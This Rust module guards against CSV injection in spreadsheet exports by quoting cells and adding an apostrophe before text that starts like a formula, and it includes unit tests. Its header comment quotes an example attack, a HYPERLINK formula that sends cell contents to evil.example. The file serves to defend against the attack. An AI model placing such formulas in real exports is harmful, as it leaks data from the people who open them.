//! CSV injection: texts in an export cannot become spreadsheet formulas (CWE-1236, API8:2023).
//!
//! **Attack**: a customer is named `=HYPERLINK("https://evil.example?"&A1,"Click")`.
//! A spreadsheet evaluates such a cell as a formula, with the rights of the person who opens the export.
//! **Control**: every text is quoted (RFC 4180), so that a semicolon or a line break does not start a new cell.
//! A text that begins like a formula gets an apostrophe before its first character, which makes the cell plain text.
//! The check ignores leading spaces, and includes full-width characters such as `＝`.
//! **Limits**: a program can remove the apostrophe and evaluate the remaining text.
//! **ASVS**: 1.2.1, 1.2.10 · **Test**: `attacks::files::csv_injection`

use std::borrow::Cow;

use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};

/// A spreadsheet evaluates a cell as a formula if the cell begins with one of these characters.
const FORMULA_PREFIXES: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

#[must_use]
pub fn writer() -> Writer<Vec<u8>> {
    WriterBuilder::new().terminator(Terminator::CRLF).quote_style(QuoteStyle::NonNumeric).from_writer(Vec::new())
}

/// Escapes a text that a user has entered, so that a spreadsheet does not evaluate it as a formula.
#[must_use]
pub fn escape_cell(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches(' ').starts_with(FORMULA_PREFIXES) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_begins_like_a_formula_gets_an_apostrophe() {
        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＠x", "=", "-"] {
            assert_eq!(escape_cell(formula), format!("'{formula}"));
        }
        for text in ["", "Acme", "'=1", "a=1", "1-1", "É", "(=1)"] {
            assert_eq!(escape_cell(text), text);
        }
    }

    #[test]
    fn separators_and_line_breaks_stay_in_their_cell() {
        let mut out = writer();
        out.write_record(["a;=1", "b\"c", "d\r\n=e", "12.50"]).unwrap();
        assert_eq!(String::from_utf8(out.into_inner().unwrap()).unwrap(), "\"a;=1\",\"b\"\"c\",\"d\r\n=e\",12.50\r\n");
    }
}
